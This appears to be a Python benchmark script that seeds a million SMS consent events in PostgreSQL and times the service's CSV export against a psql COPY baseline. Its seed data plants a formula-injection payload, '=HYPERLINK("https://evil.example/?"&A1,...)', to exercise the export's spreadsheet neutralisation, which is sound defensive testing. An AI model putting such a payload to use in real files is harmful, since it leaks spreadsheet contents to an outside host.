"""How fast ``sms-service export consent`` writes a million consent events, against psql.

    python bench/export_rate.py [--events 1000000] [--repeat 3] [--row-path] [--chunks N]
                                [--database-url URL]

Creates a private PostgreSQL database and seeds ``--events`` consent events with one
``INSERT … SELECT generate_series`` (opt-ins and signatures with their disclosure text,
HELPs, STOPs, possible opt-outs with a review date, a campaign keyword on signatures, and
one body in a thousand a planted formula such as ``=HYPERLINK(…) stop``), seals them into
the consent chain as the worker does (``seal_all``: every exported row then carries its
position and hashes, as in production), then, ``--repeat`` times and in alternating order:

* the service: ``python -m sms_service.cli export consent -o /dev/null`` in its own
  process, wall time from spawn to exit, peak RSS of that process (from /proc), with the
  service's ``EXPORT_CHUNKS`` (``--chunks`` sets it): that many COPY connections at once,
  each with its own server process;
* the baseline: ``psql -c "\\copy (SELECT …) TO '/dev/null' WITH (FORMAT csv)"`` running
  the very query the service's COPY path runs (same columns, order, formatting and
  spreadsheet neutralisation) with the session settings the service sets for it
  (``exports.COPY_SETTINGS``, through ``PGOPTIONS``), timed the same way: one connection
  (its plan may still use PostgreSQL's parallel workers, as the planner chooses).

For context, once: psql ``\\copy`` of the plain stored columns in the same order, with the
seals joined and without them (what the issue's 500,000 rows/s figure measured): what
the formatting, the neutralisation and the chain's hashes cost the server.

``--row-path`` also times the Python row stream (what SQLite uses, and what PostgreSQL used
before COPY) for comparison. Prints each timing, the medians, rows/s and the ratio; exits 1
when the service is under 250,000 rows/s, over 2x the baseline, or over 150 MB peak RSS.
The database is dropped afterwards, also on Ctrl-C.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import timedelta

from sqlalchemy import select, text
from sqlalchemy.dialects import postgresql
from sqlalchemy.engine import make_url

from config import Settings
from sms_service.db import make_engine
from sms_service.db.migrate import upgrade
from sms_service.models import Campaign, ConsentEvent, ConsentSeal
from sms_service.services.consent_chain import seal_all
from sms_service.services.exports import (
    COPY_SETTINGS,
    ExportFilter,
    consent_export,
    copy_query,
    e164_tables,
)

try:  # bench/ is not a package: run as a script, or imported by path
    from _common import exit_on_sigterm, private_database
except ImportError:  # pragma: no cover
    from bench._common import exit_on_sigterm, private_database

TARGET_ROWS_PER_SECOND = 250_000
TARGET_RATIO = 2.0
TARGET_RSS_MB = 150

DISCLOSURE = (
    "Rights Alerts: Up to 4 msgs/mo. Msg & data rates may apply. Reply HELP for help, "
    "STOP to cancel. Terms: https://rights.example/sms-terms"
)
SEED = text(
    """
    INSERT INTO consent_events (occurred_at, phone, event, keyword, message_body,
        message_sid, source, program, disclosure, campaign_id, review_by, note)
    SELECT timestamptz '2026-01-01 00:00:00+00' + g * interval '31.7 milliseconds'
               + (g % 7) * interval '1 microsecond',
           '+1' || (2022000000 + g % 400000)::text,
           (ARRAY['opt_in', 'signature', 'opt_in', 'help', 'opt_out', 'possible_opt_out',
                  'opt_in', 'signature', 'opt_out', 'opt_in'])[1 + g % 10],
           (ARRAY['JOIN', 'HK64', 'JOIN', 'HELP', 'STOP', NULL,
                  'JOIN', 'SIGN', 'STOP', 'JOIN'])[1 + g % 10],
           CASE WHEN g % 1000 = 0 THEN '=HYPERLINK("https://evil.example/?"&A1,"x") stop'
                WHEN g % 10 = 5 THEN 'We''ve got to STOP this bill, see you at 6, ok?'
                ELSE (ARRAY['Join', 'sign', 'join', 'help', 'STOP', '', 'JOIN', 'Sign',
                            'stop', 'join'])[1 + g % 10] END,
           'SM' || md5(g::text),
           'sms',
           'Rights Alerts',
           CASE WHEN g % 10 IN (0, 1, 2, 6, 7, 9) THEN :disclosure END,
           CASE WHEN g % 10 IN (1, 7) THEN :campaign_id END,
           CASE WHEN g % 10 = 5 THEN date '2026-01-15' + (g % 30)::int END,
           NULL
    FROM generate_series(1, CAST(:events AS bigint)) AS g
    """
)


def seed(database_url: str, events: int) -> None:
    """One campaign and ``events`` consent events, sealed, then VACUUM ANALYZE."""
    engine = make_engine(database_url)
    with engine.begin() as conn:
        campaign_id = conn.execute(
            text(
                "INSERT INTO campaigns (keyword, title, petition_text, active, created_at) "
                "VALUES ('HK64', 'Release the 64', '', true, now()) RETURNING id"
            )
        ).scalar_one()
        conn.execute(SEED, {"events": events, "campaign_id": campaign_id, "disclosure": DISCLOSURE})
    started = time.perf_counter()
    sealed = seal_all(engine, grace=timedelta(0), limit=10_000)
    print(f"  sealed {sealed:,} events in {time.perf_counter() - started:.1f} s")
    with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.execute(text("VACUUM ANALYZE consent_events"))
        conn.execute(text("VACUUM ANALYZE consent_seals"))
        conn.execute(text("CHECKPOINT"))
    engine.dispose()


def one_line(query) -> str:
    """``query`` with its parameters written in, on one line for psql."""
    compiled = query.compile(
        dialect=postgresql.dialect(),
        compile_kwargs={"literal_binds": True, "render_postcompile": True},
    )
    return " ".join(str(compiled).split())


def baseline_sql(database_url: str) -> str:
    """The service's COPY query on that database, as psql runs it (a phone column its
    schema holds to E.164 is written as stored, as the service does: e164_tables)."""
    engine = make_engine(database_url)
    try:
        with engine.connect() as conn:
            e164 = e164_tables(conn)
    finally:
        engine.dispose()
    return one_line(copy_query(consent_export(ExportFilter()), e164=e164))


def plain_sql(*, seals: bool) -> str:
    """The consent export's stored columns, as stored (PostgreSQL's own text for each
    type, no neutralisation), in the same order; without the seals' join and columns when
    ``seals`` is False."""
    export = consent_export(ExportFilter())
    if seals:
        return one_line(export.query(lambda column: column.expr))
    e = ConsentEvent
    columns = [c.expr for c in export.columns if c.expr.class_ is not ConsentSeal]
    query = (
        select(*columns)
        .select_from(e)
        .outerjoin(Campaign, Campaign.id == e.campaign_id)
        .order_by(e.occurred_at, e.id)
    )
    return one_line(query)


def peak_rss_mb(pid: int) -> float | None:
    """The process's peak resident set so far (VmHWM), in MB; None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


def run(command: list[str], env: dict[str, str]) -> tuple[float, float, str]:
    """Run ``command``: (wall seconds, peak RSS in MB of that process, its output).

    The peak is VmHWM read from /proc every 10 ms while it runs: ``ru_maxrss`` would count
    this (large) harness process too, whose pages the child holds between fork and exec.
    """
    with tempfile.TemporaryFile() as output:
        started = time.perf_counter()
        process = subprocess.Popen(
            command, env=env, stdout=output, stderr=subprocess.STDOUT, start_new_session=True
        )
        peak = 0.0
        while process.poll() is None:
            peak = max(peak, peak_rss_mb(process.pid) or 0.0)
            time.sleep(0.01)
        elapsed = time.perf_counter() - started
        output.seek(0)
        text_out = output.read().decode(errors="replace")
    if process.returncode:
        raise SystemExit(f"{command[0]} failed ({process.returncode}): {text_out[-500:]}")
    return elapsed, peak, text_out


@contextlib.contextmanager
def _database(args: argparse.Namespace) -> Iterator[str]:
    """A private database seeded with ``--events`` events (dropped afterwards), or the
    ``--database-url`` given (kept), seeded only when it holds no consent events yet."""
    if args.database_url:
        upgrade(args.database_url)
        engine = make_engine(args.database_url)
        with engine.connect() as conn:
            present = conn.execute(text("SELECT count(*) FROM consent_events")).scalar_one()
        engine.dispose()
        if not present:
            _seed_timed(args.database_url, args.events)
        yield args.database_url
        return
    with private_database("bench_export") as url:
        _seed_timed(url, args.events)
        yield url


def _seed_timed(url: str, events: int) -> None:
    print(f"seeding {events:,} consent events …", flush=True)
    started = time.perf_counter()
    seed(url, events)
    print(f"  seeded in {time.perf_counter() - started:.1f} s")


def main(argv: list[str] | None = None) -> int:
    """Seed, time service and baseline alternately, print, judge."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--row-path", action="store_true", help="also time the Python rows")
    parser.add_argument(
        "--chunks", type=int, help="EXPORT_CHUNKS for the service (default: its setting)"
    )
    parser.add_argument(
        "--database-url",
        help="an existing database to use and keep (migrated, and seeded when it has no "
        "consent events): repeated runs skip the seeding",
    )
    args = parser.parse_args(argv)
    exit_on_sigterm()
    psql = shutil.which("psql")
    if not psql:
        raise SystemExit("psql is needed for the baseline (apt-get install postgresql-client)")

    print(f"load average at start {' '.join(f'{v:.2f}' for v in os.getloadavg())}")
    with _database(args) as url:
        env = {**os.environ, "DATABASE_URL": url}
        if args.chunks is not None:
            env["EXPORT_CHUNKS"] = str(args.chunks)
        chunks = env.get("EXPORT_CHUNKS") or Settings.model_fields["export_chunks"].default
        print(f"service: EXPORT_CHUNKS={chunks} (COPY connections at once)")
        pg = make_url(url)
        psql_base = [
            psql, "-X", "-q", "-h", pg.host or "127.0.0.1", "-p", str(pg.port or 5432),
            "-U", pg.username or "postgres", "-d", pg.database, "-c",
        ]  # fmt: skip

        def psql_copy(sql: str) -> list[str]:
            return [*psql_base, f"\\copy ({sql}) TO '/dev/null' WITH (FORMAT csv)"]

        # The service's session settings for its COPY, given to psql the same way.
        settings = " ".join(f"-c {name}={value}" for name, value in COPY_SETTINGS.items())
        psql_env = {**env, "PGOPTIONS": f"{env.get('PGOPTIONS', '')} {settings}".strip()}
        commands = {
            "service": ([sys.executable, "-m", "sms_service.cli", "export", "consent",
                         "-o", "/dev/null"], env),
            "baseline": (psql_copy(baseline_sql(url)), psql_env),
            "plain": (psql_copy(plain_sql(seals=True)), psql_env),
            "unsealed": (psql_copy(plain_sql(seals=False)), psql_env),
            "rows": ([sys.executable, "-c", ROW_PATH_SCRIPT], env),
        }  # fmt: skip
        runs: dict[str, list[tuple[float, float]]] = {name: [] for name in commands}
        for i in range(args.repeat):
            order = ["service", "baseline"] if i % 2 == 0 else ["baseline", "service"]
            if i == 0:
                order += ["plain", "unsealed"] + (["rows"] if args.row_path else [])
            for name in order:
                command, command_env = commands[name]
                seconds, rss, output = run(command, command_env)
                if name in ("service", "rows") and f"{args.events} rows" not in output:
                    raise SystemExit(f"{name} did not report {args.events} rows: {output!r}")
                runs[name].append((seconds, rss))
                rate = args.events / seconds
                print(f"  {name:8} {seconds:6.2f} s  {rate:10,.0f} rows/s  peak RSS {rss:5.0f} MB")

    service_s = statistics.median(s for s, _ in runs["service"])
    baseline_s = statistics.median(s for s, _ in runs["baseline"])
    peak = max(r for _, r in runs["service"])
    rate = args.events / service_s
    ratio = service_s / baseline_s
    print(f"\nservice  median {service_s:.2f} s = {rate:,.0f} rows/s, peak RSS {peak:.0f} MB")
    print(f"baseline median {baseline_s:.2f} s = {args.events / baseline_s:,.0f} rows/s (psql)")
    for name, what in [
        ("plain", "psql, stored columns with the seals, no formatting or neutralisation"),
        ("unsealed", "psql, stored columns without the seals' join and hashes"),
        ("rows", "the Python row path"),
    ]:
        if runs[name]:
            seconds = runs[name][0][0]
            print(f"{name:8} once   {seconds:.2f} s = {args.events / seconds:,.0f} rows/s ({what})")
    print(f"ratio service/baseline {ratio:.2f} (target ≤ {TARGET_RATIO})")
    print(f"load average {' '.join(f'{v:.2f}' for v in os.getloadavg())}")
    ok = rate >= TARGET_ROWS_PER_SECOND and ratio <= TARGET_RATIO and peak <= TARGET_RSS_MB
    print("targets met" if ok else "TARGET MISSED")
    return 0 if ok else 1


# The Python row stream on PostgreSQL, in a process of its own like the CLI.
ROW_PATH_SCRIPT = """
import os
from sms_service.db import make_engine
from sms_service.services.exports import ExportFilter, consent_export, write_export
engine = make_engine(os.environ["DATABASE_URL"])
with open("/dev/null", "wb") as out:
    count = write_export(engine, out, consent_export(ExportFilter()), use_copy=False)
print(f"{count} rows")
"""

if __name__ == "__main__":
    sys.exit(main())
